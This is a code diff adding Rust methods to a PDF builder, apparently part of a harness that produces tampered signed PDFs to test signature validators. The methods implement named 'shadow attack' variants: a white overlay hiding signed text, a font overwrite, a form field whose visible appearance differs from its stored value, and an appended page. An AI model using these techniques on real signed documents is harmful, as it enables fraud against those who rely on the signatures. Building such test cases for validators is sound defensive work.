@@ -454,6 +454,64 @@ impl Pdf {
         Ok(())
     }
 
+    /// A new revision adding an opaque white box annotation over `rect` (shadow attack, hide via
+    /// overlay: the annotation covers signed text).
+    pub fn add_overlay(&mut self, rect: [i32; 4]) -> Result<(), ForgeError> {
+        let n = self.alloc();
+        let ap = n + 1;
+        self.annots.push(n);
+        let (w, h) = (rect[2] - rect[0], rect[3] - rect[1]);
+        let annot = format!("<< /Type /Annot /Subtype /Square /Rect [{} {} {} {}] /P {PAGE} 0 R /IC [1 1 1] /C [1 1 1] /F 4 /AP << /N {ap} 0 R >> >>", rect[0], rect[1], rect[2], rect[3]).into_bytes();
+        let appearance = stream(
+            &format!("/Type /XObject /Subtype /Form /BBox [0 0 {w} {h}]"),
+            format!("1 1 1 rg 0 0 {w} {h} re f").as_bytes(),
+        );
+        let page = self.page();
+        self.append(vec![(PAGE, page), (n, annot), (ap, appearance)], false)?;
+        Ok(())
+    }
+
+    /// A new revision rewriting the page's font object (shadow attack, replace via overwrite:
+    /// the same object number, another font).
+    pub fn overwrite_font(&mut self) -> Result<(), ForgeError> {
+        let font =
+            b"<< /Type /Font /Subtype /Type1 /BaseFont /Courier /Encoding /WinAnsiEncoding >>"
+                .to_vec();
+        self.append(vec![(FONT, font)], false)?;
+        Ok(())
+    }
+
+    /// A new revision giving the number field another appearance showing `shown` while its
+    /// value stays `value` (shadow attack, replace via form field appearance).
+    pub fn replace_number_appearance(
+        &mut self,
+        value: &str,
+        shown: &str,
+    ) -> Result<(), ForgeError> {
+        let ap = self.alloc();
+        let appearance = stream(
+            &format!("/Type /XObject /Subtype /Form /BBox [0 0 200 20] /Resources << /Font << /F1 {FONT} 0 R >> >>"),
+            format!("/Tx BMC BT /F1 10 Tf 0 g 2 6 Td ({shown}) Tj ET EMC").as_bytes(),
+        );
+        let field = self.number_field(Some((value, ap)));
+        self.append(vec![(NUMBER_FIELD, field), (ap, appearance)], false)?;
+        Ok(())
+    }
+
+    /// A new revision appending a second page showing `content`.
+    pub fn add_page(&mut self, content: &[u8]) -> Result<(), ForgeError> {
+        let page = self.alloc();
+        let body = page + 1;
+        let dict = format!("<< /Type /Page /Parent {PAGES} 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 {FONT} 0 R >> >> /Contents {body} 0 R >>").into_bytes();
+        let pages =
+            format!("<< /Type /Pages /Kids [{PAGE} 0 R {page} 0 R] /Count 2 >>").into_bytes();
+        self.append(
+            vec![(PAGES, pages), (page, dict), (body, stream("", content))],
+            false,
+        )?;
+        Ok(())
+    }
+
     /// A new revision replacing the page's content stream body (never allowed after signing).
     pub fn replace_content(&mut self, content: &[u8]) -> Result<(), ForgeError> {
         self.append(vec![(self.content, stream("", content))], false)?;
